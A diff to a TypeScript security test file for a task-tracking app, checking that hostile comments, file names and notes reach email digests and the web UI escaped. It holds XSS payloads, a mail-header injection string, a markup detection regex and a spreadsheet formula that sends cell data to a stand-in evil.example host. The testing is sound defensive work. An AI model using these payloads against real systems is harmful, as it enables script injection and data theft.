@@ -9,7 +9,10 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { count } from 'drizzle-orm';
 import ExcelJS from 'exceljs';
 import type { Browser, Page } from 'playwright-core';
-import { tasks } from '../../db/schema';
+import { and, eq, like } from 'drizzle-orm';
+import { outbox, taskEvents, tasks } from '../../db/schema';
+import { digestWorkflowId } from '../../workflows/mail';
+import { localDate } from '../../domain/calendar';
 import { renderDigest, renderNotice, type MailTask } from '../../domain/mail';
 import { createLinkSigner, linkUrl } from '../../runtime/links';
 import { ensureWebBuilt } from '../../scripts/build-web';
@@ -29,6 +32,8 @@ const FORMULA_NOTE = '=HYPERLINK("http://evil.example/?leak="&A1,"Xem chi tiết
 const LIVE_MARKUP = /<(?:script|img|iframe|svg)\b|<[^>]*\s(?:onerror|onload|onmouseover)\s*=|<a\b[^>]*href="javascript:/i;
 
 const REPORT_YEAR = 2025;
+/** An evidence file's name as a hostile uploader types it. */
+const HOSTILE_FILE_NAME = '<img src=x onerror=alert(10)>.pdf';
 
 let stack: TestStack;
 let world: World;
@@ -52,6 +57,12 @@ beforeAll(async () => {
   await command(stack, world.tokens.lead, hostileTaskId, 'acknowledge');
   await command(stack, world.tokens.lead, hostileTaskId, 'progress', { percent: 40, note: HOSTILE_NOTE });
   await command(stack, world.tokens.partner, hostileTaskId, 'contributions', { note: HOSTILE_NOTE });
+  // A comment naming the coordinating agency, with a file whose name is markup.
+  const form = new FormData();
+  form.append('file', new Blob([Buffer.from('%PDF-1.4\n%%EOF\n')], { type: 'application/pdf' }), HOSTILE_FILE_NAME);
+  const file = await stack.request('POST', `/api/tasks/${hostileTaskId}/attachments`, { token: world.tokens.lead, rawBody: form });
+  expect(file.status, JSON.stringify(file.body)).toBe(201);
+  await command(stack, world.tokens.lead, hostileTaskId, 'comments', { text: HOSTILE_NOTE, mentions: ['STC'], attachmentIds: [file.body.id] });
   for (const [i, title] of FORMULAS.entries()) {
     const t = await assignTask(stack, world, { title, note: i === 0 ? FORMULA_NOTE : undefined, number: title, startDate: '2025-03-01', dueDate: '2026-06-30' });
     formulaTaskIds.push(t.id);
@@ -181,6 +192,7 @@ describe('mails', () => {
         items: [
           { kind: 'due_reminder', copy: false, plan, task, links: { open: openLink, ack: ackLink } },
           { kind: 'due_reminder', copy: true, plan, task: { ...task, title: `${HOSTILE_TITLE} (bản phối hợp)` }, links: { open: openLink } },
+          { kind: 'mention', copy: false, plan, task, comment: { author: `Chuyên viên <img src=x onerror=alert(11)>`, text: HOSTILE_NOTE }, links: { open: openLink } },
         ],
       });
       const notice = renderNotice({
@@ -234,6 +246,27 @@ describe('mails', () => {
     expect(mail.subject).not.toMatch(/[\r\n]/);
     expect(mail.subject).toContain('Bcc: attacker@evil.example');
     expect(mail.html).not.toContain('<b>thân thư giả</b>');
+  });
+
+  it('a comment with markup reaches the named agency’s digest escaped, through the real mail workflows', async () => {
+    const [commented] = await stack.database.db.select().from(taskEvents).where(and(eq(taskEvents.taskId, hostileTaskId), eq(taskEvents.type, 'commented')));
+    const day = localDate(commented!.at.getTime());
+    const mentionDigest = () =>
+      stack.database.db
+        .select()
+        .from(outbox)
+        .where(and(eq(outbox.recipient, 'agency:STC'), eq(outbox.day, day), like(outbox.text, '%Ý kiến của Văn thư Sở TTTT%')));
+    // Waiting on the digest's result lets the test server skip its collection window.
+    for (let run = 0; run < 3 && (await mentionDigest()).length === 0; run++) await stack.env.client.workflow.getHandle(digestWorkflowId('agency:STC', day)).result();
+    const [message] = await mentionDigest();
+    expect(message, 'the digest with the mention').toBeDefined();
+    expect(message!.html).not.toMatch(LIVE_MARKUP);
+    expect(message!.subject).not.toMatch(/[\r\n]/);
+    const page = await renderInBrowser(message!.html);
+    expect(page.dialogs).toEqual([]);
+    expect(page.injected).toBe(0);
+    expect(page.text).toContain('Ghi chú <b onmouseover="alert(3)">đậm</b>');
+    expect(message!.text).toContain('<iframe src="javascript:alert(4)"></iframe>');
   });
 
   it('a reason typed by the coordinator reaches the outbox escaped, through the real mail activity', async () => {
@@ -356,8 +389,12 @@ describe('the web UI', () => {
     await page.getByRole('heading', { name: HOSTILE_TITLE, level: 1 }).waitFor();
     await page.locator('.timeline__note').first().waitFor();
     const notes = (await page.locator('.timeline__note').allInnerTexts()).map((n) => n.replace(/\s+/g, ' ').trim());
-    // The progress report's note and the contribution, at least.
-    expect(notes.filter((n) => n === HOSTILE_NOTE.replace(/\s+/g, ' ')).length).toBeGreaterThanOrEqual(2);
+    // The progress report's note, the contribution and the comment, at least.
+    expect(notes.filter((n) => n === HOSTILE_NOTE.replace(/\s+/g, ' ')).length).toBeGreaterThanOrEqual(3);
+    // The file's name, made safe when it was stored, is shown as text in the timeline and the list of files.
+    const fileName = '_img src=x onerror=alert(10)_.pdf';
+    await page.locator('.timeline__item--commented').getByRole('button', { name: `Tải về ${fileName}` }).waitFor();
+    expect(await page.locator('.detail--attachments').innerText()).toContain(fileName);
     await page.waitForTimeout(300);
     expect(await injectedElements()).toBe(0);
     expect(dialogs).toEqual([]);
